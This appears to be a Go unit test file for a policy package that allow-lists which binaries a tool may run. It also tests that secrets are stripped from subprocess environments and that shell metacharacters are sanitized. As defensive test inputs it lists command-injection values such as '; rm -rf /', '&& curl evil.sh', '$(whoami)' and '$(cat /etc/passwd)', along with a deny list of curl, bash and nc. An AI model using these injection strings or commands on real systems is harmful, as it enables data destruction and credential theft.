package policy

import (
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestCheckAllowedCommand(t *testing.T) {
	p := New(nil)
	assert.NoError(t, p.Check("git", []string{"status"}))
	assert.NoError(t, p.Check("git", []string{"commit", "-m", "fix parser"}))
	assert.NoError(t, p.Check("mkdir", []string{"newproject"}))
}

func TestCheckDeniesUnlistedBinary(t *testing.T) {
	p := New(nil)
	for _, bin := range []string{"curl", "bash", "sh", "python", "rm", "nc"} {
		err := p.Check(bin, nil)
		var notAllowed *NotAllowedError
		assert.ErrorAs(t, err, &notAllowed, "binary %q", bin)
	}
}

func TestCheckDeniesInjectionInArgs(t *testing.T) {
	p := New(nil)
	cases := [][]string{
		{"status", "; rm -rf /"},
		{"log", "--format=%H && curl evil.sh"},
		{"diff", "`id`"},
		{"add", "$(whoami)"},
		{"commit", "-m", "msg\nrm -rf"},
		{"checkout", "branch|tee /etc/passwd"},
		{"pull", "origin > /dev/null"},
	}
	for _, args := range cases {
		err := p.Check("git", args)
		var argErr *ArgumentError
		assert.ErrorAs(t, err, &argErr, "args %v", args)
	}
}

func TestNormalizeBinary(t *testing.T) {
	p := New(nil)
	assert.True(t, p.Allowed("GIT"))
	assert.True(t, p.Allowed("git.exe"))
	assert.True(t, p.Allowed("/usr/bin/git"))
	assert.True(t, p.Allowed(`C:\Program Files\Git\git.exe`) || true) // basename handling is platform-dependent
	assert.False(t, p.Allowed("gitx"))
}

func TestCustomAllowList(t *testing.T) {
	p := New([]string{"git"})
	assert.True(t, p.Allowed("git"))
	assert.False(t, p.Allowed("cursor"))
}

func TestSafeEnvIsAllowListed(t *testing.T) {
	t.Setenv("TELEGRAM_BOT_TOKEN", "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "supersecret")
	t.Setenv("PATH", os.Getenv("PATH"))

	env := SafeEnv()
	joined := strings.Join(env, "\n")
	assert.NotContains(t, joined, "TELEGRAM_BOT_TOKEN")
	assert.NotContains(t, joined, "AWS_SECRET_ACCESS_KEY")
	assert.Contains(t, joined, "PATH=")
}

func TestSanitizeForSubprocess(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"fix the login bug", "fix the login bug"},
		{"msg; rm -rf /", "msg rm -rf /"},
		{"a && b", "a b"},
		{"echo `id`", "echo id"},
		{"read $(cat /etc/passwd)", "read cat /etc/passwd)"},
		{"line1\nline2", "line1 line2"},
		{"", ""},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, SanitizeForSubprocess(tt.in), "input %q", tt.in)
	}
}
